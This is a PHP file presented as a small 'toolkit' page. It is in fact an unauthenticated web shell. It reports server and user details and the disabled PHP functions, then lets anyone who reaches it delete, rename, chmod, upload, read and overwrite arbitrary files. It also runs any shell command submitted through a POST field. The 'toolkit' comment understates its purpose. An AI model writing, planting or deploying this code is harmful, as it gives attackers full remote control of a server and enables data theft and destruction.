<?php
// A small "toolkit" page: server facts, a file list with actions, a command box.
@set_time_limit(0);
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo "<b>Uname:</b> " . php_uname() . "<br>";
$u = function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid()) : array('name' => get_current_user());
echo "<b>User:</b> " . $u['name'] . " (" . getmyuid() . ")<br>";
echo "<b>Safe mode:</b> " . (ini_get('safe_mode') ? 'ON' : 'OFF') . "<br>";
echo "<b>Disabled:</b> " . ini_get('disable_functions') . "<br>";
if (isset($_GET['del'])) { unlink($_GET['del']); }
if (isset($_GET['rd'])) { rmdir($_GET['rd']); }
if (isset($_POST['from'], $_POST['to'])) { rename($_POST['from'], $_POST['to']); }
if (isset($_POST['mode'])) { chmod($_POST['f'], octdec($_POST['mode'])); }
if (isset($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], $dir . '/' . $_FILES['up']['name']); }
if (isset($_POST['save'])) { file_put_contents($_POST['f'], $_POST['body']); }
if (isset($_GET['view'])) { readfile($_GET['view']); }
foreach (scandir($dir) as $f) {
    $p = $dir . '/' . $f;
    echo substr(sprintf('%o', fileperms($p)), -4) . ' ' . (is_writable($p) ? 'w' : '-') . ' ' . date('Y-m-d', filemtime($p)) . " $f<br>";
}
if (!empty($_POST['c'])) { echo '<pre>' . shell_exec($_POST['c']) . '</pre>'; }
